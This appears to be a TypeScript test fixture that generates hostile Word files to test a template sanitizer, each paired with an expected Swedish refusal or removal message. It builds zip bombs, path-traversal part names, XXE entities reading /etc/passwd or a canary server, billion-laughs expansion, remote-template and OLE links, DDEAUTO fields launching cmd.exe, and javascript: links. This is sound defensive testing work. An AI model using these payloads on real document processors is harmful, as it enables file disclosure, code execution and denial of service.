import { deflateRawSync } from 'node:zlib';
import {
  body,
  contentTypes,
  control,
  documentRelations,
  field,
  para,
  relations,
  run,
  templateParts,
  templateWith,
  wordTemplate,
  xmlPart,
} from './word-template.ts';

/** A file made to harm, and what is expected: refused with such words, or cleaned and told of with such words. */
export type HostileFile = { name: string; bytes: Uint8Array } & ({ refused: RegExp } | { removed: RegExp | null });

const TEXT = para(run('Protokoll för {{organ}}'));
const DAMAGED = /skadad eller inte skriven av Word/;
const TOO_LARGE = /för stor för en mall/;
const DOCTYPE = /DOCTYPE/;

const withRelation = (type: string, target: string, external = true, content = TEXT): Uint8Array =>
  templateWith(content, { 'word/_rels/document.xml.rels': documentRelations({ id: 'rIdX', type, target, external }) });

/** A zip entry by hand, so that it can lie. */
type RawEntry = { name: string; data: Buffer; packed?: Buffer; size?: number; flags?: number; local?: number };

function rawZip(entries: readonly RawEntry[], count = entries.length): Uint8Array {
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, data, packed = deflateRawSync(data), size = data.length, flags = 0, local } of entries) {
    const label = Buffer.from(name, 'latin1');
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(flags, 6);
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(packed.length, 18);
    header.writeUInt32LE(size, 22);
    header.writeUInt16LE(label.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(flags, 8);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(size, 24);
    entry.writeUInt16LE(label.length, 28);
    entry.writeUInt32LE(local ?? offset, 42);
    files.push(header, label, packed);
    directory.push(entry, label);
    offset += header.length + label.length + packed.length;
  }
  const size = directory.reduce((sum, piece) => sum + piece.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count & 0xffff, 8);
  end.writeUInt16LE(count & 0xffff, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...files, ...directory, end]);
}

const sound = (): RawEntry[] =>
  Object.entries(templateParts()).map(([name, data]) => ({ name, data: Buffer.from(data as Uint8Array) }));
const MB = 1024 * 1024;

function bombs(): HostileFile[] {
  const zeros = (size: number) => Buffer.alloc(size, 0x20);
  const tenMegabytes = deflateRawSync(zeros(10 * MB));
  const named = (name: string, entries: RawEntry[], refused: RegExp): HostileFile => ({
    name,
    bytes: rawZip(entries),
    refused,
  });
  return [
    ...[2, 10, 29].map((size) =>
      named(`a part of ${size} MB of spaces`, [...sound(), { name: 'word/x.xml', data: zeros(size * MB) }], DAMAGED),
    ),
    named('a part over 30 MB', [...sound(), { name: 'word/x.xml', data: zeros(31 * MB) }], TOO_LARGE),
    named(
      'parts of together over 80 MB',
      [
        ...sound(),
        ...Array.from({ length: 90 }, (_, at) => ({
          name: `word/x${at}.xml`,
          data: Buffer.alloc(1),
          packed: deflateRawSync(zeros(MB)),
          size: MB,
        })),
      ],
      TOO_LARGE,
    ),
    ...[0, 1, 100, MB].map((told) =>
      named(
        `10 MB that are told to be ${told} bytes`,
        [...sound(), { name: 'word/x.xml', data: Buffer.alloc(1), packed: tenMegabytes, size: told }],
        DAMAGED,
      ),
    ),
    named(
      'a gigabyte told of',
      [...sound(), { name: 'word/x.xml', data: Buffer.alloc(1), size: 1024 * MB }],
      TOO_LARGE,
    ),
    named(
      'many entries over the same bytes',
      [
        ...sound(),
        ...Array.from({ length: 200 }, (_, at) => ({
          name: `word/o${at}.xml`,
          data: Buffer.alloc(1),
          packed: Buffer.alloc(0),
          size: MB,
          local: 0,
        })),
      ],
      TOO_LARGE,
    ),
    named(
      '2 500 parts',
      [...sound(), ...Array.from({ length: 2500 }, (_, at) => ({ name: `word/n${at}.xml`, data: Buffer.alloc(1) }))],
      /fler än 2 000 delar/,
    ),
    { name: 'a number of parts that is a lie', bytes: rawZip(sound(), 60_000), refused: /fler än 2 000 delar/ },
    { name: 'a zip cut in half', bytes: wordTemplate().subarray(0, 3000), refused: DAMAGED },
    { name: 'a zip with its end cut off', bytes: wordTemplate().subarray(0, -10), refused: DAMAGED },
    {
      name: 'noise that begins as a zip',
      bytes: Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(5000, 0x5a)]),
      refused: DAMAGED,
    },
    {
      name: 'over 20 MB',
      bytes: Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(21 * MB)]),
      refused: TOO_LARGE,
    },
    named(
      'an encrypted part',
      [...sound().slice(0, -1), { name: 'word/y.xml', data: Buffer.from('x'), flags: 1 }],
      /lösenord/,
    ),
  ];
}

const BAD_NAMES = [
  '../evil.xml',
  'word/../../evil.xml',
  '/etc/passwd',
  'C:/Windows/evil.dll',
  'C:evil.xml',
  'word\\..\\evil.xml',
  '\\\\host\\share\\evil.xml',
  'word/./document2.xml',
  'word//double.xml',
  'word/con:stream.xml',
  'word/\u0000.xml',
  'word/evil\n.xml',
  'word/<script>.xml',
  'word/"quote".xml',
  'word/pipe|x.xml',
  'word/star*.xml?',
  '..',
];

function names(): HostileFile[] {
  return [
    ...BAD_NAMES.map((name) => ({
      name: `a part called ${JSON.stringify(name)}`,
      bytes: rawZip([...sound(), { name, data: Buffer.from('x') }]),
      refused: DAMAGED,
    })),
    {
      name: 'two parts of the same name',
      bytes: rawZip([...sound(), { name: 'word/document.xml', data: Buffer.from('<x/>') }]),
      refused: DAMAGED,
    },
    {
      name: 'two parts that differ by case',
      bytes: rawZip([...sound(), { name: 'WORD/Document.xml', data: Buffer.from('<x/>') }]),
      refused: DAMAGED,
    },
  ];
}

function otherFiles(): HostileFile[] {
  const compound = (text: string) =>
    Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(504),
      Buffer.from(text, 'utf16le'),
      Buffer.alloc(512),
    ]);
  const main = (type: string) => wordTemplate({ '[Content_Types].xml': contentTypes({ 'word/document.xml': type }) });
  const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument';
  return [
    { name: 'nothing', bytes: new Uint8Array(), refused: /tom/ },
    { name: 'a .doc', bytes: compound('WordDocument'), refused: /äldre format \(\.doc\)/ },
    { name: 'a document with a password', bytes: compound('EncryptedPackage'), refused: /lösenord/ },
    { name: 'RTF', bytes: Buffer.from('{\\rtf1\\ansi hej}'), refused: /RTF/ },
    { name: 'HTML', bytes: Buffer.from('<!DOCTYPE html><html><body>hej</body></html>'), refused: /webbsida/ },
    { name: 'HTML with a mark', bytes: Buffer.from('\ufeff<html xmlns:w="x">'), refused: /webbsida/ },
    { name: 'Word 2003 XML', bytes: Buffer.from('<?xml version="1.0"?><w:wordDocument/>'), refused: /XML-fil/ },
    { name: 'a PDF', bytes: Buffer.from('%PDF-1.7\n'), refused: /PDF/ },
    { name: 'text', bytes: Buffer.from('hej på dig'), refused: /inget Word-dokument/ },
    { name: 'a zip of something', bytes: rawZip([{ name: 'hej.txt', data: Buffer.from('hej') }]), refused: /zip-fil/ },
    {
      name: 'an .odt',
      bytes: rawZip([{ name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.text') }]),
      refused: /OpenDocument/,
    },
    { name: 'a .docm', bytes: main('application/vnd.ms-word.document.macroEnabled.main+xml'), refused: /makron/ },
    {
      name: 'a .dotm',
      bytes: main('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
      refused: /makron/,
    },
    {
      name: 'an .xlsx',
      bytes: main('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      refused: /Excel/,
    },
    {
      name: 'a .pptx',
      bytes: main('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'),
      refused: /PowerPoint/,
    },
    { name: 'an unknown type', bytes: main('application/x-evil'), refused: DAMAGED },
    { name: 'no main part', bytes: wordTemplate({ '_rels/.rels': relations([]) }), refused: DAMAGED },
    {
      name: 'a main part that is a header',
      bytes: wordTemplate({ 'word/document.xml': xmlPart('w:hdr', TEXT) }),
      refused: DAMAGED,
    },
    {
      name: 'Strict',
      bytes: wordTemplate({ '_rels/.rels': relations([{ id: 'r1', type: strict, target: 'word/document.xml' }]) }),
      refused: /Strict/,
    },
    {
      name: 'UTF-8 that is none',
      bytes: wordTemplate({ 'word/document.xml': Buffer.from([0x3c, 0xff, 0xfe, 0xc3, 0x28]) }),
      refused: DAMAGED,
    },
    {
      name: 'XML without an end',
      bytes: wordTemplate({ 'word/document.xml': body(TEXT).slice(0, -20) }),
      refused: DAMAGED,
    },
  ];
}

function xmlAttacks(url: string): HostileFile[] {
  const declared = (subset: string, use: string) =>
    `<?xml version="1.0"?><!DOCTYPE w:document [${subset}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${use}</w:t></w:r></w:p></w:body></w:document>`;
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  const attacks: [string, string][] = [
    ['a file', declared('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')],
    ['a web address', declared(`<!ENTITY x SYSTEM "${url}/xxe">`, '&x;')],
    ['a share', declared('<!ENTITY x SYSTEM "\\\\\\\\127.0.0.1\\\\x">', '&x;')],
    ['a parameter entity', declared(`<!ENTITY % p SYSTEM "${url}/dtd"> %p;`, 'x')],
    ['a billion laughs', declared(`<!ENTITY l0 "ha">${laughs}`, '&l9;')],
    ['one long entity', declared(`<!ENTITY x "${'a'.repeat(50_000)}">`, '&x;'.repeat(5_000))],
    ['an outside DTD', `<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "${url}/x.dtd"><w:document/>`],
    ['an empty DOCTYPE', '<?xml version="1.0"?><!DOCTYPE w:document><w:document/>'],
  ];
  const parts = [
    'word/document.xml',
    'word/styles.xml',
    'word/settings.xml',
    'word/header1.xml',
    'word/footnotes.xml',
    '[Content_Types].xml',
    '_rels/.rels',
    'word/_rels/document.xml.rels',
  ];
  const nested = (depth: number) => '<w:sdt>'.repeat(depth) + '</w:sdt>'.repeat(depth);
  const attributes = (count: number) => Array.from({ length: count }, (_, at) => ` a${at}="x"`).join('');
  const prefixes = (count: number) => Array.from({ length: count }, (_, at) => ` xmlns:n${at}="urn:n${at}"`).join('');
  const inside = (content: string) => templateWith(content);
  return [
    ...attacks.flatMap(([what, xml], at) =>
      [parts[at % parts.length]!, parts[(at + 3) % parts.length]!].map((path) => ({
        name: `${what} in ${path}`,
        bytes: wordTemplate({ [path]: xml }),
        refused: DOCTYPE,
      })),
    ),
    ...[300, 5_000, 100_000].map((depth) => ({
      name: `elements ${depth} deep`,
      bytes: inside(nested(depth)),
      refused: DAMAGED,
    })),
    ...[201, 10_000, 100_000].map((count) => ({
      name: `${count} attributes`,
      bytes: inside(`<w:p${attributes(count)}/>`),
      refused: DAMAGED,
    })),
    ...[201, 8_000].map((count) => ({
      name: `${count} namespaces`,
      bytes: inside(`<w:p${prefixes(count)}/>`),
      refused: DAMAGED,
    })),
    {
      name: '500 nested namespaces',
      bytes: inside(
        Array.from(
          { length: 240 },
          (_, at) => `<w:sdt${Array.from({ length: 190 }, (_, n) => ` xmlns:m${at}x${n}="urn:${at}:${n}"`).join('')}>`,
        ).join('') + '</w:sdt>'.repeat(240),
      ),
      refused: DAMAGED,
    },
    { name: 'an entity nobody declared', bytes: inside('<w:p>&evil;</w:p>'), refused: DAMAGED },
    {
      name: 'a million elements',
      bytes: inside(`<w:p>${'<w:r/>'.repeat(1_000_000)}</w:p>`),
      refused: /för stor|skadad/,
    },
    {
      name: 'more placeholders than anybody needs',
      bytes: inside(para(run('{{organ}} '.repeat(400)))),
      refused: /fler än 300 platshållare/,
    },
  ];
}

function outside(url: string): HostileFile[] {
  const host = url.replace('http://', '');
  const targets = [
    `${url}/t.dotm`,
    `https://${host}/t.dotx`,
    `file://${host}/share/t.dotm`,
    `\\\\${host.split(':')[0]}\\share\\t.dotm`,
    `\\\\${host.replace(':', '@')}\\DavWWWRoot\\t.dotm`,
    '\\\\127.0.0.1@SSL\\x\\t.dotm',
    'file:///C:/t.dotm',
    'ms-word:ofe|u|http://x',
    'C:\\t.dotm',
  ];
  const settings = xmlPart('w:settings', '<w:attachedTemplate r:id="rId1"/><w:linkStyles/>');
  const picture = (attribute: string) =>
    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const vml = (attribute: string) =>
    `<w:p><w:r><w:pict><v:rect id="a" style="width:9pt;height:9pt" ${attribute.startsWith('href') ? attribute : ''}><v:imagedata ${attribute.startsWith('href') ? '' : attribute}/></v:rect></w:pict></w:r></w:p>`;
  const external = /externa? koppling/;
  const link = (target: string): HostileFile => ({
    name: `a link to ${target}`,
    bytes: withRelation(
      'hyperlink',
      target.replaceAll('&', '&amp;'),
      true,
      para(`<w:hyperlink r:id="rIdX">${run('Läs mer')}</w:hyperlink>`),
    ),
    removed: /ersatta? av sin text/,
  });
  return [
    ...targets.map((target) => ({
      name: `a template at ${target}`,
      bytes: wordTemplate({
        'word/settings.xml': settings,
        'word/_rels/settings.xml.rels': relations([{ id: 'rId1', type: 'attachedTemplate', target, external: true }]),
      }),
      removed: external,
    })),
    {
      name: 'a picture at a web address (link)',
      bytes: withRelation('image', `${url}/x.png`, true, picture('r:link="rIdX"')),
      removed: external,
    },
    {
      name: 'a picture at a web address (embed)',
      bytes: withRelation('image', `${url}/x.png`, true, picture('r:embed="rIdX"')),
      removed: external,
    },
    {
      name: 'a picture that is a web link',
      bytes: withRelation('hyperlink', `${url}/x.png`, true, picture('r:embed="rIdX"')),
      removed: null,
    },
    {
      name: 'a VML picture at a web address',
      bytes: withRelation('image', `${url}/x.png`, true, vml('r:id="rIdX"')),
      removed: external,
    },
    {
      name: 'a VML picture by r:href',
      bytes: withRelation('image', `${url}/x.png`, true, vml('r:href="rIdX"')),
      removed: external,
    },
    { name: 'a VML picture by src', bytes: templateWith(vml(`src="${url}/x.png" o:href="${url}/y"`)), removed: null },
    { name: 'a VML shape that is a link', bytes: templateWith(vml(`href="${url}/x" target="_blank"`)), removed: null },
    {
      name: 'an OLE object at a web address',
      bytes: withRelation(
        'oleObject',
        `${url}/x.bin`,
        true,
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word" r:id="rIdX"/></w:object></w:r></w:p>',
      ),
      removed: external,
    },
    {
      name: 'a frame',
      bytes: wordTemplate({
        'word/_rels/document.xml.rels': documentRelations({
          id: 'rIdX',
          type: 'webSettings',
          target: 'webSettings.xml',
        }),
        'word/webSettings.xml': xmlPart(
          'w:webSettings',
          '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>',
        ),
        'word/_rels/webSettings.xml.rels': relations([
          { id: 'rId1', type: 'frame', target: `${url}/f`, external: true },
        ]),
      }),
      removed: null,
    },
    {
      name: 'another document as a part',
      bytes: withRelation('subDocument', `${url}/s.docx`, true, `${TEXT}<w:p><w:subDoc r:id="rIdX"/></w:p>`),
      removed: external,
    },
    {
      name: 'mail merge',
      bytes: wordTemplate({
        'word/settings.xml': xmlPart(
          'w:settings',
          '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rId1"/></w:mailMerge>',
        ),
        'word/_rels/settings.xml.rels': relations([
          { id: 'rId1', type: 'mailMergeSource', target: `${url}/d.csv`, external: true },
        ]),
      }),
      removed: /utskicksdata/,
    },
    {
      name: 'an outside target without TargetMode',
      bytes: withRelation('image', `${url}/x.png`, false, picture('r:embed="rIdX"')),
      removed: external,
    },
    { name: 'a header at a web address', bytes: withRelation('header', `${url}/h.xml`, true), removed: external },
    ...[
      'javascript:alert(1)',
      'file:///etc/passwd',
      '\\\\host\\x',
      'ms-word:ofe|u|x',
      'search-ms:query=x',
      'vbscript:x',
      'data:text/html,x',
      'ftp://x/y',
      'mhtml:http://x',
      'http://user:pass@x/',
      ' javascript:x',
      'JaVaScRiPt:x',
      'onenote:x',
      'tel:112',
    ].map(link),
  ];
}

function insides(): HostileFile[] {
  const part = (type: string, path: string, data: string | Uint8Array, content = TEXT): Uint8Array =>
    templateWith(content, {
      'word/_rels/document.xml.rels': documentRelations({ id: 'rIdX', type, target: path }),
      [`word/${path}`.replace('word/../', '')]: data,
    });
  const ms = (name: string) => `http://schemas.microsoft.com/office/2006/relationships/${name}`;
  const blob = Buffer.from('MZ\u0090 evil');
  return [
    { name: 'a macro part', bytes: part(ms('vbaProject'), 'vbaProject.bin', blob), removed: /makrodel/ },
    { name: 'macro data', bytes: part(ms('wordVbaData'), 'vbaData.xml', '<x/>'), removed: /makrodel/ },
    {
      name: 'keys bound to macros',
      bytes: part(ms('keyMapCustomizations'), 'customizations.xml', '<x/>'),
      removed: /makrodel/,
    },
    {
      name: 'a ribbon',
      bytes: wordTemplate({
        '_rels/.rels': relations([
          { id: 'rId1', type: 'officeDocument', target: 'word/document.xml' },
          {
            id: 'rId9',
            type: 'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
            target: 'customUI/customUI14.xml',
          },
        ]),
        'customUI/customUI14.xml': '<customUI onLoad="Evil"/>',
      }),
      removed: /makrodel/,
    },
    {
      name: 'ActiveX',
      bytes: part('control', 'activeX/activeX1.xml', '<x/>', `${TEXT}<w:p><w:r><w:control r:id="rIdX"/></w:r></w:p>`),
      removed: /inbäddat objekt/,
    },
    {
      name: 'an OLE object',
      bytes: part(
        'oleObject',
        'embeddings/oleObject1.bin',
        blob,
        `${TEXT}<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdX"/></w:object></w:r></w:p>`,
      ),
      removed: /inbäddat objekt/,
    },
    { name: 'an embedded workbook', bytes: part('package', 'embeddings/x.xlsx', blob), removed: /inbäddat objekt/ },
    {
      name: 'a chart',
      bytes: part(
        'chart',
        'charts/chart1.xml',
        '<x/>',
        `${TEXT}<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="x"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdX"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
      ),
      removed: /inbäddat objekt/,
    },
    {
      name: 'HTML as altChunk',
      bytes: part('aFChunk', 'chunk.html', '<script>1</script>', `${TEXT}<w:altChunk r:id="rIdX"/>`),
      removed: /infogad fil/,
    },
    {
      name: 'MHT as altChunk',
      bytes: part('aFChunk', 'chunk.mht', 'MIME-Version: 1.0', `${TEXT}<w:altChunk r:id="rIdX"/>`),
      removed: /infogad fil/,
    },
    {
      name: 'building blocks',
      bytes: part('glossaryDocument', 'glossary/document.xml', xmlPart('w:glossaryDocument', '')),
      removed: /inte behöver/,
    },
    {
      name: 'hidden data',
      bytes: part(
        'customXml',
        '../customXml/item1.xml',
        '<x/>',
        control(para(run('{{organ}}')), '<w:dataBinding w:xpath="/x" w:storeItemID="{0}"/>'),
      ),
      removed: /innehållskontroll/,
    },
    {
      name: 'a font',
      bytes: wordTemplate({
        'word/_rels/document.xml.rels': documentRelations({ id: 'rIdF', type: 'fontTable', target: 'fontTable.xml' }),
        'word/fontTable.xml': xmlPart('w:fonts', '<w:font w:name="Evil"><w:embedRegular r:id="rId1"/></w:font>'),
        'word/_rels/fontTable.xml.rels': relations([{ id: 'rId1', type: 'font', target: 'fonts/font1.odttf' }]),
        'word/fonts/font1.odttf': blob,
      }),
      removed: /inbäddat teckensnitt/,
    },
    {
      name: 'an SVG',
      bytes: part('image', 'media/x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>'),
      removed: /bild som inte går att använda/,
    },
    {
      name: 'a picture that is HTML',
      bytes: wordTemplate({ 'word/media/logo.png': '<html>' }),
      removed: /bild som inte går att använda/,
    },
    {
      name: 'a picture of 40 000 × 40 000',
      bytes: wordTemplate({ 'word/media/logo.png': hugePng() }),
      removed: /bild som inte går att använda/,
    },
    {
      name: 'a protected document',
      bytes: wordTemplate({
        'word/settings.xml': xmlPart('w:settings', '<w:documentProtection w:edit="forms" w:enforcement="1"/>'),
      }),
      removed: /skrivskydd/,
    },
    {
      name: 'a form with a macro',
      bytes: templateWith(
        `${TEXT}${para(`<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="x"/><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)}`,
      ),
      removed: /FORMTEXT/,
    },
    {
      name: 'changes and comments',
      bytes: templateWith(
        `${TEXT}${para(`<w:ins w:id="1" w:author="Kalle">${run('ny text')}</w:ins><w:del w:id="2" w:author="Kalle"><w:r><w:delText>gammal</w:delText></w:r></w:del><w:r><w:commentReference w:id="0"/></w:r>`)}`,
      ),
      removed: /1 kommentar borttagen[\s\S]*2 spårade ändringar godkända/,
    },
  ];
}

function hugePng(): Buffer {
  const png = Buffer.alloc(60);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]).copy(png);
  png.writeUInt32BE(40_000, 16);
  png.writeUInt32BE(40_000, 20);
  png[24] = 8;
  png[25] = 6;
  return png;
}

function fields(url: string): HostileFile[] {
  const codes = [
    'DDE cmd "/c calc"',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    `INCLUDETEXT "${url}/x.docx"`,
    `INCLUDEPICTURE "${url}/x.png" \\d`,
    `LINK Word.Document.8 "${url}/x" "" \\a`,
    `IMPORT "${url}/x.png"`,
    'QUOTE 68 68 69',
    `HYPERLINK "${url}/x"`,
    'DATE \\@ "yyyy"',
    'TIME',
    'AUTHOR',
    'USERNAME',
    'FILENAME \\p',
    'MACROBUTTON Evil Klicka',
    'AUTOTEXT x',
    `DATABASE \\d "${url}" \\s "x"`,
    'MERGEFIELD namn',
    'ASK x "?"',
    'FILLIN "?"',
    'IF 1 = 1 "a" "b"',
    'SET x "y"',
    'REF x',
    'RD x.docx',
    'GLOSSARY x',
    'EMBED Package',
    'PRINT 27',
    'GOTOBUTTON x y',
    'CONTROL x',
    'ADDIN x',
    'EQ \\o(a,b)',
    'DOCPROPERTY x',
    'DOCVARIABLE x',
    'PAGE "x" DDE &quot; {',
    'PAGEX',
    'TOC \\o "1-3" & calc',
  ].map((code) =>
    code
      .replaceAll('& ', '&amp; ')
      .replace(/"/g, '&quot;')
      .replace(/&quot;;/g, '&quot;'),
  );
  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
  const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>';
  const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
  const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
  const odd: [string, string][] = [
    ['split over runs', begin + ['D', 'DE', 'AU', 'TO c', 'md'].map(code).join('') + separate + run('kvar') + end],
    ['in the code of another', begin + code(' PAGE ') + field('DDE cmd', 'x') + separate + run('kvar') + end],
    ['in the result of another', begin + code(' STYLEREF 1 ') + separate + field('DDEAUTO cmd', 'kvar') + end],
    ['without an end', begin + code(' DDEAUTO cmd ') + separate + run('kvar')],
    ['without a result', run('kvar') + begin + code(' DDEAUTO cmd ') + end],
    ['without a beginning', code(' DDEAUTO cmd ') + separate + run('kvar') + end],
    ['over two paragraphs', `${begin}${code(' DDE ')}</w:p><w:p>${code('AUTO cmd')}${separate}${run('kvar')}${end}`],
    [
      'by quotes that make a code',
      begin + code(' QUOTE ') + field('QUOTE 68 68 69', 'DDE') + separate + run('kvar') + end,
    ],
  ];
  const told = /fält ersatta? av sin text/;
  return [
    ...codes.flatMap((text): HostileFile[] => [
      { name: `a field ${text.slice(0, 30)}`, bytes: templateWith(TEXT + para(field(text, 'kvar'))), removed: told },
      {
        name: `a simple field ${text.slice(0, 30)}`,
        bytes: templateWith(`${TEXT}${para(`<w:fldSimple w:instr="${text}">${run('kvar')}</w:fldSimple>`)}`),
        removed: told,
      },
    ]),
    ...odd.map(
      ([how, content]): HostileFile => ({
        name: `DDE ${how}`,
        bytes: templateWith(TEXT + para(content)),
        removed: how === 'without a beginning' ? null : told,
      }),
    ),
  ];
}

/** Everything one may be sent, with `url` a server that must never be asked for anything. */
export const hostileWordFiles = (url: string): HostileFile[] => [
  ...bombs(),
  ...names(),
  ...otherFiles(),
  ...xmlAttacks(url),
  ...outside(url),
  ...insides(),
  ...fields(url),
];
